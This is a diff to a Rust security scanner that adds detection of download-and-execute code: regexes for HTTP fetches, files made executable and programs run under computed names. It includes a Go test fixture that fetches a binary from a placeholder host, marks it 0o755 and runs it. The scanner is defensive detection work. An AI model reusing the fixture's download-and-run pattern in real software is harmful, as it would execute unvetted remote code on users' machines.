@@ -70,6 +70,27 @@ static SHELLISH: LazyLock<Regex> = LazyLock::new(|| {
     )
 });
 
+/// A download: an HTTP GET of a URL.
+static FETCH_API: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(
+        r"(http\.Get\(|http\.NewRequest\(\s*.GET|reqwest::(blocking::)?get\(|Net::HTTP\.get|URI\.open\(|open-uri|file_get_contents\(\s*.https?:|HttpClient|URLSession|LWP::Simple|getstore\()",
+    )
+});
+/// A file written or set executable (`OpenFile(p, …, 0o755)`, `chmod`,
+/// `set_permissions`); a folder made with 0755 is not.
+static EXEC_MODE: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(
+        r"((OpenFile|WriteFile|Chmod|chmod|open)\([^\n]*\b0o?7[57][57]\b|set_permissions\(|from_mode\(\s*0o7|FileUtils\.chmod|File\.chmod\(|setExecutable\()",
+    )
+});
+/// A program started whose name is not a literal (a path computed at run
+/// time: the downloaded file).
+static RUN_COMPUTED: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(
+        r"(exec\.Command(Context)?\(\s*(ctx\s*,\s*)?[A-Za-z_]|Command::new\(\s*&?[A-Za-z_]|\bsystem\(\s*[A-Za-z_$]|\bspawn\(\s*[A-Za-z_$]|\bexec\(\s*[A-Za-z_$]|ProcessBuilder\(\s*[A-Za-z_]|Process\.Start\(\s*[A-Za-z_])",
+    )
+});
+
 pub fn is_unparsed_code(rel: &str) -> bool {
     let name = rel.rsplit('/').next().unwrap_or(rel).to_ascii_lowercase();
     name.rsplit_once('.')
@@ -117,6 +138,34 @@ pub fn scan(src: &Src, sink: &mut Sink) {
             .object("socket to a fixed address wired to a shell");
         sink.push(src.at(ev, sock.start(), sock.end(), "code"));
     }
+    download_run(src, sink);
+    super::sdk::scan(src, sink);
+    super::remote_jobs::scan(src, sink);
+    super::memory_payload::scan(src, sink);
+}
+
+/// Go, Rust, Ruby, … download-and-run: a URL fetched, a file written with
+/// execute rights, and a program started under a computed name. The three
+/// are not tied together by a flow at token level, so all three must be
+/// there; a fetch of data plus fixed commands (`exec.Command("go", …)`) is
+/// quiet.
+fn download_run(src: &Src, sink: &mut Sink) {
+    let text = src.text;
+    let (Some(_), Some(_), Some(run)) = (
+        FETCH_API.find(text),
+        EXEC_MODE.find(text),
+        RUN_COMPUTED.find(text),
+    ) else {
+        return;
+    };
+    let Some(url) = URL_RE.find(text) else {
+        return;
+    };
+    let ev = Evidence::new(Op::DownloadExec, A::CallTool, R::Process, url.as_str())
+        .tags(classify_url(url.as_str()))
+        .instrument("download, chmod and run")
+        .object("downloaded program made executable and run");
+    sink.push(src.at(ev, run.start(), run.end(), "code"));
 }
 
 /// Byte spans of the contents of "…", '…' and `…` literals on one line.
@@ -170,6 +219,16 @@ mod tests {
         let e = run("x.rb", rb);
         assert!(e.iter().any(|e| e.op == Op::ReverseShell));
         assert!(e.iter().any(|e| e.op == Op::DownloadExec));
+    }
+
+    #[test]
+    fn go_download_and_run_fires_and_go_tooling_does_not() {
+        let go = "const u = \"https://mirror.example/helper/%s\"\nresp, _ := http.Get(fmt.Sprintf(u, runtime.GOOS))\nf, _ := os.OpenFile(p, os.O_CREATE|os.O_WRONLY, 0o755)\nio.Copy(f, resp.Body)\ncmd := exec.Command(p, \"--quiet\")\ncmd.Start()\n";
+        let e = run("audit.go", go);
+        assert!(e.iter().any(|e| e.op == Op::DownloadExec));
+        // Data fetched, files written 0644, fixed tools run: quiet.
+        let ok = "resp, _ := http.Get(\"https://proxy.golang.org/x/@v/list\")\nos.MkdirAll(dir, 0o755)\nos.WriteFile(\"out.txt\", b, 0o644)\nfunc run(name string) { exec.Command(name, \"list\").Output() }\n";
+        assert!(!run("audit.go", ok).iter().any(|e| e.op == Op::DownloadExec));
     }
 
     #[test]
